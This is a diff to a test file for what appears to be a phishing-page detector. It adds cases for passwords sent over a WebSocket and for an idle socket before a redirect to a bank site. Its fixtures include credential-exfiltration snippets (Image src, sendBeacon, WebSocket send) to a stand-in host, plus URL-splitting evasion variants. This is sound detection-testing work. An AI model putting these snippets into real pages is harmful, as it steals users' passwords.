@@ -140,6 +140,11 @@ describe('what a person presses', () => {
     expect(left?.evidence).toMatchObject({ at: 'act[1]', seen: 'https://nordhavn-bank.example/' })
   })
 
+  test('opens a socket, over which it has sent nothing when it leads to the site that it names', () => {
+    const code = "new WebSocket('wss://chat.example.net/'); location.href = 'https://nordhavn-bank.example/'"
+    expect(ids(page(code, TITLE + COPYRIGHT + LOGO))).not.toContain('content.collect_and_leave')
+  })
+
   test.each([
     ['in the body of a request', SENT, 'act[0]'],
     ['in the address of a picture', "new Image().src = 'https://take.example.net/p?pw='", 'act[0]'],
@@ -148,10 +153,16 @@ describe('what a person presses', () => {
       "navigator.sendBeacon('https://take.example.net/', btoa(JSON.stringify({u: '', pw: ''})))",
       'act[0]',
     ],
+    [
+      'over a socket, once that is open',
+      `const s = new WebSocket('wss://take.example.net/'); s.onopen = function () {
+        if (s.readyState === WebSocket.OPEN) s.send(JSON.stringify({pw: ''})) }`,
+      'act[1]',
+    ],
   ])('sends the password to another site %s', (_, code, place) => {
     const hidden = code.replace(
-      'https://take.example.net',
-      "' + ['https:/', 'take.example.net'].join('/') + '",
+      /(https|wss):\/\/take\.example\.net/,
+      "' + ['$1:/', 'take.example.net'].join('/') + '",
     )
     const sent = signals(page(hidden)).find(({ id }) => id === 'content.form_cross_site')
     expect(sent?.evidence.at).toBe(place)
